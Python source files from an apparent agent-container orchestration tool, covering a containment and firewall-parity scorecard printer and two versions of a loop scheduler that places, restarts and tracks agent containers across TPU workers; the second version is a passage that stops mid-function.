        tag = {"socket": "sock", "twin": "twin", "mixed": "mix "}[t["grading"]]
        print(f"  [{mark}] ({tag}) {t['technique']:<34} {t['detail'][:72]}")
        kr = t.get("kernel_regrade")
        if kr is not None:
            kmark = ("SKIP" if kr.get("skipped")
                     else "PASS" if kr["pass"] else "FAIL")
            print(f"         [kernel {kmark}] {kr['detail'][:68]}")
    print(f"\n{red['passed']}/{red['total']} techniques contained, "
          f"{red['captures']} captures  (total {wall_s:.1f}s)")
    print("grading: (sock) observed on real sockets in the World; "
          "(twin) kernel-twin verdict with synthesized capture; "
          "(mix) twin verdict gating a socket drive.")
    if red.get("kernel_regrade_available"):
        print(f"kernel regrade: twin/mixed techniques re-graded on the REAL "
              f"kernel (verifier-loaded programs, scratch cgroup): "
              f"{', '.join(red['kernel_regraded'])}")
    elif red.get("kernel_regrade_error"):
        print(f"kernel regrade: CRASHED ({red['kernel_regrade_error']}); "
              "twin rows retain twin fidelity.")
    else:
        print("kernel regrade: unavailable on this host (bpf(2)/cgroup-v2); "
              "twin rows retain twin fidelity.")
    return 0 if all_ok else 1


if __name__ == "__main__":
    sys.exit(main())
