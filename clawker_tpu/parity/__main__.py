"""``python -m clawker_tpu.parity`` -- print the reference parity scorecard.

Runs the 22 scenarios from :mod:`clawker_tpu.parity.scenarios` against
the virtual-internet World + the real FirewallHandler and prints one
line per scenario plus the ``N/22 PASS`` headline BASELINE.md's
firewall-parity metric is scored on.  Exit code 0 only on a full pass.

``--json`` emits the machine-readable scorecard instead.
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import time
from pathlib import Path

from .scenarios import SCENARIOS, run_all


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m clawker_tpu.parity")
    ap.add_argument("--json", action="store_true", help="emit JSON scorecard")
    ap.add_argument("--workdir", help="keep scenario artifacts here")
    args = ap.parse_args(argv)

    t0 = time.monotonic()
    if args.workdir:
        base = Path(args.workdir)
        base.mkdir(parents=True, exist_ok=True)
        rows = run_all(base)
    else:
        with tempfile.TemporaryDirectory(prefix="clawker-parity-") as td:
            rows = run_all(Path(td))
    wall_s = time.monotonic() - t0
    passed = sum(1 for r in rows if r["pass"])

    if args.json:
        print(json.dumps({"passed": passed, "total": len(rows),
                          "wall_s": round(wall_s, 3), "scenarios": rows}))
        return 0 if passed == len(rows) else 1

    for r in rows:
        mark = "PASS" if r["pass"] else "FAIL"
        detail = "" if r["pass"] else f"  {r['evidence'].get('error', '')}"
        print(f"  [{mark}] {r['name']:<40} {r['ms']:>6} ms{detail}")
    print(f"\n{passed}/{len(rows)} PASS  ({wall_s:.1f}s)")
    return 0 if passed == len(rows) else 1


if __name__ == "__main__":
    sys.exit(main())
