"""The loop scheduler: place, run, restart, and account N agent loops.

An *agent loop* is one autonomous harness container run repeatedly:
each iteration starts the container, waits for exit, records the
result, and re-starts until the iteration budget, a stop request, or
the failure ceiling.  ``--parallel N`` runs N loops at once, placed
across the runtime driver's workers:

- ``spread`` (default): round-robin across pod workers in TPU worker
  order -- one loop per worker VM on a v5e-8 with ``--parallel 8``,
  the BASELINE benchmark shape.
- ``pack``: fill worker 0 first (single-worker debugging).

Placement is the ONLY thing pod topology feeds (SURVEY.md 2.13: ICI
carries no control traffic); everything else is per-worker local.

Concurrency model (the fan-out used to be strictly serial, O(N * RTT)
on SSH-backed engines):

- **Per-worker lanes.**  Every worker gets one serial lane thread; all
  engine mutations for that worker (create, start, stop, remove, the
  batched poll) run on its lane.  Two agents on one worker can never
  race that worker's engine, while distinct workers proceed fully in
  parallel -- and a hung worker engine wedges only its own lane.
- **Batched polling.**  Instead of one ``inspect_container`` round-trip
  per agent per tick, each tick issues ONE ``list_containers`` filtered
  by the loop-run label per engine, then inspects only containers that
  actually stopped (to fetch their exit code).
- **Event-driven restarts.**  Each running iteration gets a blocking
  ``wait_container`` thread that wakes the run loop the moment the
  container exits, so the next iteration starts immediately instead of
  waiting out the poll interval; ``poll_s`` only bounds the fallback
  re-check cadence and stop() latency.
- **Ordered events.**  ``on_event`` callbacks now fire from lane,
  waiter, and anomaly-watch threads; a :class:`monitor.events.EventBus`
  serializes them so per-agent ordering still holds.

Per-iteration context rides a small state file written into the
container between restarts (env is immutable after create), so the
harness can see iteration number + loop id.  Consecutive-failure
ceiling stops a crash-looping agent from burning a worker forever.
"""

from __future__ import annotations

import io
import queue
import tarfile
import threading
from concurrent.futures import Future
from concurrent.futures import wait as futures_wait
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts, logsetup
from ..config import Config
from ..engine.drivers import RuntimeDriver, Worker
from ..errors import ClawkerError
from ..monitor.events import EventBus
from ..runtime.orchestrate import AgentRuntime, CreateOptions
from ..util import ids

log = logsetup.get("loop.scheduler")

FAILURE_CEILING = 3          # consecutive nonzero exits -> loop failed
LOOP_STATE_DIR = "/run/clawker"
HALT_DEADLINE_S = 10.0       # bounded halt/cleanup: a hung worker's lane
#                              must never wedge CLI shutdown

# container-list summary states meaning "iteration still in flight"
_ACTIVE_STATES = {"created", "running", "restarting", "paused"}


@dataclass
class LoopSpec:
    parallel: int = 1
    iterations: int = 0              # per-agent budget; 0 = until stop()
    placement: str = "spread"        # spread | pack
    image: str = "@"
    prompt: str = ""                 # handed to the harness via env
    worktrees: bool = False          # one git worktree per agent loop
    workspace_mode: str = ""         # default: snapshot (isolation per loop)
    agent_prefix: str = "loop"
    env: dict[str, str] = field(default_factory=dict)


@dataclass
class AgentLoop:
    agent: str
    worker: Worker
    container_id: str = ""
    iteration: int = 0
    consecutive_failures: int = 0
    exit_codes: list[int] = field(default_factory=list)
    status: str = "pending"          # pending|running|done|failed|stopped
    worktree: Path | None = None

    def summary(self) -> dict:
        return {
            "agent": self.agent, "worker": self.worker.id,
            "status": self.status, "iteration": self.iteration,
            "exit_codes": list(self.exit_codes),
        }


def place(workers: list[Worker], n: int, policy: str) -> list[Worker]:
    """n loop slots -> workers.  spread follows TPU worker order."""
    if not workers:
        raise ClawkerError("loop: no workers available")
    if policy == "pack":
        return [workers[0]] * n
    if policy == "spread":
        return [workers[i % len(workers)] for i in range(n)]
    raise ClawkerError(f"loop: unknown placement {policy!r} (spread|pack)")


class _WorkerLane:
    """Serial executor for ONE worker's engine calls.

    Two agents placed on the same worker must never race that worker's
    engine, so each worker gets exactly one lane thread; distinct
    workers proceed in parallel.  A ``ThreadPoolExecutor(max_workers=1)``
    would do, except its threads are joined at interpreter exit -- one
    hung SSH engine would wedge the whole CLI shutdown.  A daemon thread
    plus explicit futures keeps a hung worker's damage confined to that
    worker.
    """

    def __init__(self, name: str):
        self._q: queue.SimpleQueue = queue.SimpleQueue()
        self._thread = threading.Thread(target=self._drain, daemon=True,
                                        name=f"loop-lane-{name}")
        self._thread.start()

    def submit(self, fn, *args) -> Future:
        fut: Future = Future()
        self._q.put((fut, fn, args))
        return fut

    def close(self) -> None:
        self._q.put(None)

    def _drain(self) -> None:
        while True:
            item = self._q.get()
            if item is None:
                return
            fut, fn, args = item
            if not fut.set_running_or_notify_cancel():
                continue
            try:
                fut.set_result(fn(*args))
            except BaseException as e:   # the lane must survive any task
                fut.set_exception(e)


class LoopScheduler:
    def __init__(self, cfg: Config, driver: RuntimeDriver, spec: LoopSpec,
                 *, on_event=None):
        self.cfg = cfg
        self.driver = driver
        self.spec = spec
        self.loop_id = ids.short_id()
        self.loops: list[AgentLoop] = []
        # every event (lane threads, waiter threads, anomaly watch) rides
        # the bus so consumers see per-agent order despite the fan-out
        self.events = EventBus(on_event)
        self.on_event = self.events.emit
        self.anomaly_watch = None
        self._stop = threading.Event()
        self._wake = threading.Event()        # set by waiters on any exit
        self._git_lock = threading.Lock()     # worktree setup shares one repo
        self._lanes: dict[str, _WorkerLane] = {}
        self._inflight: dict[str, Future] = {}   # agent -> create/start task
        self._waited: set[tuple[str, int]] = set()

    def attach_anomaly_watch(self, watch) -> None:
        """Surface fleet anomaly scores (analytics.runtime.AnomalyWatch)
        in status() and as scheduler events when an agent crosses the
        threshold.  Optional: the loop runs identically without it."""
        self.anomaly_watch = watch

        def emit(container: str, z: float) -> None:
            # score rows are keyed by CONTAINER name (netlogger field);
            # events must carry the loop agent name like every other
            # scheduler event, so map back via dot segments
            segments = container.split(".")
            agent = next((l.agent for l in self.loops if l.agent in segments),
                         container)
            self.on_event(agent, "anomaly", f"egress z-score {z:.1f}")

        watch.on_anomaly = emit
        # a broken scorer must not fail silently behind stale scores
        watch.on_error = lambda msg: self.on_event(
            "scheduler", "anomaly_watch_error", msg)

    # -------------------------------------------------------------- set up

    def _lane(self, worker: Worker) -> _WorkerLane:
        lane = self._lanes.get(worker.id)
        if lane is None:
            lane = _WorkerLane(worker.id)
            self._lanes[worker.id] = lane
        return lane

    def _runtime(self, worker: Worker) -> AgentRuntime:
        from ..controlplane.bootstrap import post_start_services, pre_start_services
        from ..fleet.channels import open_side_channels

        channels = None
        try:
            # every loop agent gets the side channel the reference
            # guarantees every agent (hostproxy + monitor stream), tunneled
            # for remote workers (VERDICT r1 weak #6)
            channels = open_side_channels(worker.require_engine(), self.cfg)
        except Exception as e:
            self.on_event("scheduler", "side_channels_unavailable",
                          f"{worker.id}: {e}")
        return AgentRuntime(
            worker.require_engine(), self.cfg,
            pre_start=lambda ref: pre_start_services(self.cfg, self.driver, ref),
            post_start=lambda ref: post_start_services(self.cfg, self.driver, ref),
            channels=channels,
        )

    def _maybe_worktree(self, agent: str) -> tuple[Path | None, Path | None]:
        """(workspace_root, worktree_git_dir) for this loop agent."""
        if not self.spec.worktrees:
            return None, None
        from ..gitx.git import GitManager

        root = self.cfg.project_root or Path.cwd()
        gm = GitManager(root)
        if not gm.is_repo():
            raise ClawkerError("loop: --worktrees requires a git repository")
        dest = self.cfg.data_dir / "worktrees" / self.cfg.project_name() / agent
        info = gm.setup_worktree(dest, f"loop/{self.loop_id}/{agent}")
        return info.path, gm.git_dir()

    def start(self) -> None:
        """Place loops and fan create+first-start across worker lanes.

        Returns once every launch is SUBMITTED: the old serial create
        loop stacked O(N * RTT) on SSH engines, and one wedged worker
        blocked the whole pod's fan-out.  run() drives the launches to
        completion (and accounts their failures).
        """
        workers = self.driver.workers()
        slots = place(workers, self.spec.parallel, self.spec.placement)
        for i, worker in enumerate(slots):
            # loop id in the agent name: two concurrent runs in one project
            # must never collide (replace=True would kill the other run)
            agent = f"{self.spec.agent_prefix}-{self.loop_id[:6]}-{i}"
            loop = AgentLoop(agent=agent, worker=worker)
            self.loops.append(loop)
        for loop in self.loops:
            self._inflight[loop.agent] = self._lane(loop.worker).submit(
                self._launch, loop)

    def wait_launched(self, timeout: float | None = None) -> bool:
        """Block until every submitted launch (create + first start) has
        completed; True when all landed within ``timeout``.  For callers
        that need the old synchronous start() semantics -- run() does NOT
        need this (it harvests launches as they finish), so a hung worker
        only stalls callers that explicitly opt into waiting."""
        done, not_done = futures_wait(list(self._inflight.values()),
                                      timeout=timeout)
        return not not_done

    def _launch(self, loop: AgentLoop) -> None:
        """Create + first iteration start, on the owning worker's lane."""
        if self._stop.is_set():
            # a launch still queued behind a wedged lane when the user
            # stopped the run must not create an orphan container (or
            # worktree) once the engine recovers
            return
        try:
            self._create(loop)
        except ClawkerError as e:
            loop.status = "failed"
            self.on_event(loop.agent, "create_failed", str(e))
            log.error("loop %s: create failed: %s", loop.agent, e)
            return
        self._guarded_start(loop)

    def _create(self, loop: AgentLoop) -> None:
        # worktree setup mutates ONE shared git repo (refs, worktree
        # metadata): serialize it across lanes or concurrent loops race
        # git's own lock files
        with self._git_lock:
            workspace_root, git_dir = self._maybe_worktree(loop.agent)
        loop.worktree = workspace_root
        env = {
            "CLAWKER_LOOP_ID": self.loop_id,
            "CLAWKER_LOOP_AGENT": loop.agent,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt} if self.spec.prompt else {}),
            **self.spec.env,
        }
        rt = self._runtime(loop.worker)
        # isolation default: snapshot copies; a worktree IS the isolation
        # (and the linked .git file only resolves under a live bind)
        mode = self.spec.workspace_mode or ("bind" if self.spec.worktrees
                                            else "snapshot")
        loop.container_id = rt.create(CreateOptions(
            agent=loop.agent,
            image=self.spec.image,
            env=env,
            tty=False,
            workspace_mode=mode,
            worker=loop.worker.id,
            loop_id=self.loop_id,
            replace=True,
            workspace_root=workspace_root,
            worktree_git_dir=git_dir,
        ))
        self.on_event(loop.agent, "created", loop.worker.id)

    # ----------------------------------------------------------- iteration

    def _write_iteration(self, loop: AgentLoop) -> None:
        """Per-iteration context file (env can't change after create)."""
        body = (f"loop_id={self.loop_id}\nagent={loop.agent}\n"
                f"iteration={loop.iteration}\n").encode()
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            ti = tarfile.TarInfo("loop-state")
            ti.size = len(body)
            tf.addfile(ti, io.BytesIO(body))
        engine = loop.worker.require_engine()
        engine.put_archive(loop.container_id, LOOP_STATE_DIR, buf.getvalue())

    def _start_iteration(self, loop: AgentLoop) -> None:
        engine = loop.worker.require_engine()
        rt = self._runtime(loop.worker)
        try:
            self._write_iteration(loop)
        except ClawkerError:
            pass  # state file is advisory; the loop itself is not
        if loop.iteration == 0:
            rt.start(loop.container_id)          # full pre/post bootstrap
        else:
            engine.start_container(loop.container_id)
            # a restarted container gets a fresh cgroup: enforcement must
            # re-enroll every iteration (the handler's drift guard keys
            # on exactly this)
            if rt.post_start:
                rt.post_start(loop.container_id)
        loop.status = "running"
        self.on_event(loop.agent, "iteration_start", str(loop.iteration))

    def _guarded_start(self, loop: AgentLoop) -> None:
        """One worker's transient failure must never abort the other
        loops (per-worker isolation) or skip the CLI's cleanup."""
        if self._stop.is_set():
            return
        try:
            self._start_iteration(loop)
        except ClawkerError as e:
            loop.status = "failed"
            self.on_event(loop.agent, "failed", f"start: {e}")
            log.error("loop %s: start failed: %s", loop.agent, e)

    def _finish_iteration(self, loop: AgentLoop, code: int) -> None:
        loop.exit_codes.append(code)
        loop.iteration += 1
        if code == 0:
            loop.consecutive_failures = 0
        else:
            loop.consecutive_failures += 1
        self.on_event(loop.agent, "iteration_done", f"{loop.iteration - 1}:{code}")
        if loop.consecutive_failures >= FAILURE_CEILING:
            loop.status = "failed"
            self.on_event(loop.agent, "failed",
                          f"{FAILURE_CEILING} consecutive failures")
        elif self.spec.iterations and loop.iteration >= self.spec.iterations:
            loop.status = "done"
            self.on_event(loop.agent, "done", f"{loop.iteration} iterations")

    # ------------------------------------------------------------- polling

    def _read_exit(self, loop: AgentLoop) -> tuple[int | None, str]:
        """(exit_code, failure_detail) for a stopped container.

        A ``None`` code with a detail means the iteration cannot be
        accounted: the container vanished, or it stopped with no
        ExitCode in its state -- a daemon that lost the exit status must
        read as a FAILED iteration, never as success (the old
        ``int(state.get("ExitCode") or 0)`` mapped exactly that to 0).
        """
        engine = loop.worker.require_engine()
        try:
            info = engine.inspect_container(loop.container_id)
        except ClawkerError:
            return None, "container vanished"
        state = info.get("State") or {}
        if state.get("Running"):
            return None, ""        # raced a restart: not finished after all
        code = state.get("ExitCode")
        if code is None:
            return None, "stopped without exit code"
        try:
            return int(code), ""
        except (TypeError, ValueError):
            return None, f"unreadable exit code {code!r}"

    def _poll_lane(self, engine, loops: list[AgentLoop]
                   ) -> list[tuple[AgentLoop, int | None, str]]:
        """ONE ``list_containers`` round-trip for every loop agent this
        worker hosts (the serial loop paid one inspect per agent per
        tick), then one inspect per *stopped* container for its exit
        code.  Runs on the worker's lane, so a hung engine blocks only
        its own worker's poll."""
        try:
            rows = engine.list_containers(all=True, filters={
                "label": [f"{consts.LABEL_LOOP}={self.loop_id}"]})
        except ClawkerError:
            rows = None
        out: list[tuple[AgentLoop, int | None, str]] = []
        if rows is None:
            # engine unreachable: fall back to per-container inspect so a
            # dead daemon still fails its loops instead of spinning forever
            for l in loops:
                code, detail = self._read_exit(l)
                if code is not None or detail:
                    out.append((l, code, detail))
            return out
        state_by_id = {r.get("Id", ""): str(r.get("State") or "").lower()
                       for r in rows}
        for l in loops:
            st = state_by_id.get(l.container_id)
            if st is None:
                out.append((l, None, "container vanished"))
            elif st not in _ACTIVE_STATES:
                code, detail = self._read_exit(l)
                if code is not None or detail:
                    out.append((l, code, detail))
        return out

    def _spawn_waiter(self, loop: AgentLoop) -> None:
        """Blocking ``wait_container`` on a side thread: a finished
        iteration wakes run() immediately instead of waiting out the
        poll interval.  Purely a wake-up -- the batched poll stays the
        source of truth for exit accounting."""
        key = (loop.agent, loop.iteration)
        if key in self._waited:
            return
        self._waited.add(key)
        engine = loop.worker.require_engine()
        cid = loop.container_id

        def wait() -> None:
            try:
                engine.wait_container(cid)
            except Exception:
                pass
            self._wake.set()

        threading.Thread(target=wait, daemon=True,
                         name=f"loop-wait-{loop.agent}-{loop.iteration}").start()

    # ----------------------------------------------------------------- run

    def run(self, *, poll_s: float = 0.5) -> list[AgentLoop]:
        """Drive every loop to completion (or stop()); returns final states.

        Event-driven: waiter threads wake the loop the moment an
        iteration exits, so ``poll_s`` only bounds the fallback re-check
        cadence (and stop() latency) -- it can stay coarse without
        slowing restarts down.
        """
        for loop in self.loops:
            # compat: loops registered without start() still launch here
            if loop.agent not in self._inflight:
                if loop.status == "pending":
                    self._inflight[loop.agent] = self._lane(loop.worker).submit(
                        self._launch, loop)
                else:
                    done: Future = Future()
                    done.set_result(None)
                    self._inflight[loop.agent] = done
        polls: dict[str, Future] = {}
        poll_errs: dict[str, int] = {}
        while not self._stop.is_set():
            self._harvest_inflight()
            # a loop is busy while running, or while its create/start/
            # restart is still queued on a (possibly wedged) worker lane
            busy = [l for l in self.loops
                    if l.status == "running"
                    or not self._inflight[l.agent].done()]
            if not busy:
                break
            pollable = [l for l in self.loops
                        if l.status == "running"
                        and self._inflight[l.agent].done()]
            by_worker: dict[str, list[AgentLoop]] = {}
            for l in pollable:
                self._spawn_waiter(l)
                by_worker.setdefault(l.worker.id, []).append(l)
            for wid, group in by_worker.items():
                if wid not in polls:    # previous poll still pending: skip
                    engine = group[0].worker.require_engine()
                    polls[wid] = self._lane(group[0].worker).submit(
                        self._poll_lane, engine, list(group))
            if polls:
                futures_wait(list(polls.values()), timeout=poll_s)
            finished: list[tuple[AgentLoop, int | None, str]] = []
            for wid in list(polls):
                fut = polls[wid]
                if not fut.done():
                    continue             # slow worker: re-harvest next tick
                del polls[wid]
                try:
                    finished.extend(fut.result())
                    poll_errs.pop(wid, None)
                except Exception as e:
                    # a DETERMINISTIC poll crash (engine bug, malformed
                    # state) would otherwise retry at poll_s cadence
                    # forever with the loops stuck "running"
                    log.error("loop poll on %s failed: %r", wid, e)
                    poll_errs[wid] = poll_errs.get(wid, 0) + 1
                    if poll_errs[wid] >= FAILURE_CEILING:
                        finished.extend(
                            (l, None, f"poll crashed: {e!r}")
                            for l in by_worker.get(wid, ()))
            progressed = False
            for loop, code, detail in finished:
                if loop.status != "running":
                    continue
                progressed = True
                self._waited.discard((loop.agent, loop.iteration))
                if code is None:
                    loop.status = "failed"
                    self.on_event(loop.agent, "failed", detail)
                    continue
                self._finish_iteration(loop, code)
                if loop.status == "running":     # budget left: next iteration
                    self._inflight[loop.agent] = self._lane(loop.worker).submit(
                        self._guarded_start, loop)
            if not progressed:
                self._wake.wait(poll_s)
                self._wake.clear()
        if self._stop.is_set():
            self._halt_running()
        # callers read final states + their own on_event capture right
        # after run(); make sure every stamped event reached the sink
        self.events.flush()
        return self.loops

    def _harvest_inflight(self) -> None:
        """Unexpected (non-ClawkerError) lane crashes must surface as a
        failed loop, not evaporate inside a future nobody reads."""
        for loop in self.loops:
            fut = self._inflight.get(loop.agent)
            if fut is None or not fut.done():
                continue
            exc = fut.exception()
            if exc is not None and loop.status in ("pending", "running"):
                loop.status = "failed"
                self.on_event(loop.agent, "failed", f"internal: {exc!r}")
                log.error("loop %s: lane task crashed: %r", loop.agent, exc)

    def stop(self) -> None:
        self._stop.set()
        self._wake.set()

    def _halt_running(self) -> None:
        futs = []
        for loop in self.loops:
            if loop.status != "running":
                continue
            futs.append(self._lane(loop.worker).submit(self._halt_one, loop))
            loop.status = "stopped"
            self.on_event(loop.agent, "stopped")
        if futs:
            futures_wait(futs, timeout=HALT_DEADLINE_S)

    def _halt_one(self, loop: AgentLoop) -> None:
        try:
            loop.worker.require_engine().stop_container(loop.container_id,
                                                        timeout=5)
        except ClawkerError:
            pass

    def status(self) -> list[dict]:
        out = []
        for l in self.loops:
            row = l.summary()
            if self.anomaly_watch is not None:
                sc = self.anomaly_watch.score_for(l.agent)
                if sc is not None:
                    row["anomaly_z"] = round(sc.latest, 2)
            out.append(row)
        return out

    def cleanup(self, *, remove_containers: bool = False) -> None:
        if remove_containers:
            # submit a removal for EVERY loop: it rides the same lane as
            # the loop's launch, so by the time it runs the launch has
            # drained and container_id is authoritative (checking it here
            # on the main thread could snapshot '' mid-create and leak)
            futs = [self._lane(loop.worker).submit(self._remove_one, loop)
                    for loop in self.loops]
            if futs:
                futures_wait(futs, timeout=HALT_DEADLINE_S)
        for lane in self._lanes.values():
            lane.close()
        self._lanes.clear()
        self.events.flush()
        self.events.close()

    def _remove_one(self, loop: AgentLoop) -> None:
        if not loop.container_id:
            return      # create never ran (failed, or aborted by stop())
        try:
            loop.worker.require_engine().remove_container(
                loop.container_id, force=True, volumes=True)
        except ClawkerError:
            pass
