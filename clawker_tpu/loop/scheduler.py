"""The loop scheduler: place, run, restart, and account N agent loops.

An *agent loop* is one autonomous harness container run repeatedly:
each iteration starts the container, waits for exit, records the
result, and re-starts until the iteration budget, a stop request, or
the failure ceiling.  ``--parallel N`` runs N loops at once, placed
across the runtime driver's workers:

- ``spread`` (default): round-robin across pod workers in TPU worker
  order -- one loop per worker VM on a v5e-8 with ``--parallel 8``,
  the BASELINE benchmark shape.
- ``pack``: fill worker 0 first (single-worker debugging).

Placement is the ONLY thing pod topology feeds (SURVEY.md 2.13: ICI
carries no control traffic); everything else is per-worker local.

Per-iteration context rides a small state file written into the
container between restarts (env is immutable after create), so the
harness can see iteration number + loop id.  Consecutive-failure
ceiling stops a crash-looping agent from burning a worker forever.
"""

from __future__ import annotations

import io
import tarfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts, logsetup
from ..config import Config
from ..engine.drivers import RuntimeDriver, Worker
from ..errors import ClawkerError
from ..runtime.orchestrate import AgentRuntime, CreateOptions
from ..util import ids

log = logsetup.get("loop.scheduler")

FAILURE_CEILING = 3          # consecutive nonzero exits -> loop failed
LOOP_STATE_DIR = "/run/clawker"


@dataclass
class LoopSpec:
    parallel: int = 1
    iterations: int = 0              # per-agent budget; 0 = until stop()
    placement: str = "spread"        # spread | pack
    image: str = "@"
    prompt: str = ""                 # handed to the harness via env
    worktrees: bool = False          # one git worktree per agent loop
    workspace_mode: str = ""         # default: snapshot (isolation per loop)
    agent_prefix: str = "loop"
    env: dict[str, str] = field(default_factory=dict)


@dataclass
class AgentLoop:
    agent: str
    worker: Worker
    container_id: str = ""
    iteration: int = 0
    consecutive_failures: int = 0
    exit_codes: list[int] = field(default_factory=list)
    status: str = "pending"          # pending|running|done|failed|stopped
    worktree: Path | None = None

    def summary(self) -> dict:
        return {
            "agent": self.agent, "worker": self.worker.id,
            "status": self.status, "iteration": self.iteration,
            "exit_codes": list(self.exit_codes),
        }


def place(workers: list[Worker], n: int, policy: str) -> list[Worker]:
    """n loop slots -> workers.  spread follows TPU worker order."""
    if not workers:
        raise ClawkerError("loop: no workers available")
    if policy == "pack":
        return [workers[0]] * n
    if policy == "spread":
        return [workers[i % len(workers)] for i in range(n)]
    raise ClawkerError(f"loop: unknown placement {policy!r} (spread|pack)")


class LoopScheduler:
    def __init__(self, cfg: Config, driver: RuntimeDriver, spec: LoopSpec,
                 *, on_event=None):
        self.cfg = cfg
        self.driver = driver
        self.spec = spec
        self.loop_id = ids.short_id()
        self.loops: list[AgentLoop] = []
        self.on_event = on_event or (lambda agent, event, detail="": None)
        self.anomaly_watch = None
        self._stop = threading.Event()

    def attach_anomaly_watch(self, watch) -> None:
        """Surface fleet anomaly scores (analytics.runtime.AnomalyWatch)
        in status() and as scheduler events when an agent crosses the
        threshold.  Optional: the loop runs identically without it."""
        self.anomaly_watch = watch

        def emit(container: str, z: float) -> None:
            # score rows are keyed by CONTAINER name (netlogger field);
            # events must carry the loop agent name like every other
            # scheduler event, so map back via dot segments
            segments = container.split(".")
            agent = next((l.agent for l in self.loops if l.agent in segments),
                         container)
            self.on_event(agent, "anomaly", f"egress z-score {z:.1f}")

        watch.on_anomaly = emit
        # a broken scorer must not fail silently behind stale scores
        watch.on_error = lambda msg: self.on_event(
            "scheduler", "anomaly_watch_error", msg)

    # -------------------------------------------------------------- set up

    def _runtime(self, worker: Worker) -> AgentRuntime:
        from ..controlplane.bootstrap import post_start_services, pre_start_services
        from ..fleet.channels import open_side_channels

        channels = None
        try:
            # every loop agent gets the side channel the reference
            # guarantees every agent (hostproxy + monitor stream), tunneled
            # for remote workers (VERDICT r1 weak #6)
            channels = open_side_channels(worker.require_engine(), self.cfg)
        except Exception as e:
            self.on_event("scheduler", "side_channels_unavailable",
                          f"{worker.id}: {e}")
        return AgentRuntime(
            worker.require_engine(), self.cfg,
            pre_start=lambda ref: pre_start_services(self.cfg, self.driver, ref),
            post_start=lambda ref: post_start_services(self.cfg, self.driver, ref),
            channels=channels,
        )

    def _maybe_worktree(self, agent: str) -> tuple[Path | None, Path | None]:
        """(workspace_root, worktree_git_dir) for this loop agent."""
        if not self.spec.worktrees:
            return None, None
        from ..gitx.git import GitManager

        root = self.cfg.project_root or Path.cwd()
        gm = GitManager(root)
        if not gm.is_repo():
            raise ClawkerError("loop: --worktrees requires a git repository")
        dest = self.cfg.data_dir / "worktrees" / self.cfg.project_name() / agent
        info = gm.setup_worktree(dest, f"loop/{self.loop_id}/{agent}")
        return info.path, gm.git_dir()

    def start(self) -> None:
        workers = self.driver.workers()
        slots = place(workers, self.spec.parallel, self.spec.placement)
        for i, worker in enumerate(slots):
            # loop id in the agent name: two concurrent runs in one project
            # must never collide (replace=True would kill the other run)
            agent = f"{self.spec.agent_prefix}-{self.loop_id[:6]}-{i}"
            loop = AgentLoop(agent=agent, worker=worker)
            self.loops.append(loop)
        for loop in self.loops:
            try:
                self._create(loop)
            except ClawkerError as e:
                loop.status = "failed"
                self.on_event(loop.agent, "create_failed", str(e))
                log.error("loop %s: create failed: %s", loop.agent, e)

    def _create(self, loop: AgentLoop) -> None:
        workspace_root, git_dir = self._maybe_worktree(loop.agent)
        loop.worktree = workspace_root
        env = {
            "CLAWKER_LOOP_ID": self.loop_id,
            "CLAWKER_LOOP_AGENT": loop.agent,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt} if self.spec.prompt else {}),
            **self.spec.env,
        }
        rt = self._runtime(loop.worker)
        # isolation default: snapshot copies; a worktree IS the isolation
        # (and the linked .git file only resolves under a live bind)
        mode = self.spec.workspace_mode or ("bind" if self.spec.worktrees
                                            else "snapshot")
        loop.container_id = rt.create(CreateOptions(
            agent=loop.agent,
            image=self.spec.image,
            env=env,
            tty=False,
            workspace_mode=mode,
            worker=loop.worker.id,
            loop_id=self.loop_id,
            replace=True,
            workspace_root=workspace_root,
            worktree_git_dir=git_dir,
        ))
        self.on_event(loop.agent, "created", loop.worker.id)

    # ----------------------------------------------------------- iteration

    def _write_iteration(self, loop: AgentLoop) -> None:
        """Per-iteration context file (env can't change after create)."""
        body = (f"loop_id={self.loop_id}\nagent={loop.agent}\n"
                f"iteration={loop.iteration}\n").encode()
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            ti = tarfile.TarInfo("loop-state")
            ti.size = len(body)
            tf.addfile(ti, io.BytesIO(body))
        engine = loop.worker.require_engine()
        engine.put_archive(loop.container_id, LOOP_STATE_DIR, buf.getvalue())

    def _start_iteration(self, loop: AgentLoop) -> None:
        engine = loop.worker.require_engine()
        rt = self._runtime(loop.worker)
        try:
            self._write_iteration(loop)
        except ClawkerError:
            pass  # state file is advisory; the loop itself is not
        if loop.iteration == 0:
            rt.start(loop.container_id)          # full pre/post bootstrap
        else:
            engine.start_container(loop.container_id)
            # a restarted container gets a fresh cgroup: enforcement must
            # re-enroll every iteration (the handler's drift guard keys
            # on exactly this)
            if rt.post_start:
                rt.post_start(loop.container_id)
        loop.status = "running"
        self.on_event(loop.agent, "iteration_start", str(loop.iteration))

    def _guarded_start(self, loop: AgentLoop) -> None:
        """One worker's transient failure must never abort the other
        loops (per-worker isolation) or skip the CLI's cleanup."""
        try:
            self._start_iteration(loop)
        except ClawkerError as e:
            loop.status = "failed"
            self.on_event(loop.agent, "failed", f"start: {e}")
            log.error("loop %s: start failed: %s", loop.agent, e)

    def _finish_iteration(self, loop: AgentLoop, code: int) -> None:
        loop.exit_codes.append(code)
        loop.iteration += 1
        if code == 0:
            loop.consecutive_failures = 0
        else:
            loop.consecutive_failures += 1
        self.on_event(loop.agent, "iteration_done", f"{loop.iteration - 1}:{code}")
        if loop.consecutive_failures >= FAILURE_CEILING:
            loop.status = "failed"
            self.on_event(loop.agent, "failed",
                          f"{FAILURE_CEILING} consecutive failures")
        elif self.spec.iterations and loop.iteration >= self.spec.iterations:
            loop.status = "done"
            self.on_event(loop.agent, "done", f"{loop.iteration} iterations")

    # ----------------------------------------------------------------- run

    def run(self, *, poll_s: float = 0.5) -> list[AgentLoop]:
        """Drive every loop to completion (or stop()); returns final states."""
        for loop in self.loops:
            if loop.status == "pending":
                self._guarded_start(loop)
        while not self._stop.is_set():
            active = [l for l in self.loops if l.status == "running"]
            if not active:
                break
            for loop in active:
                engine = loop.worker.require_engine()
                try:
                    info = engine.inspect_container(loop.container_id)
                except ClawkerError:
                    loop.status = "failed"
                    self.on_event(loop.agent, "failed", "container vanished")
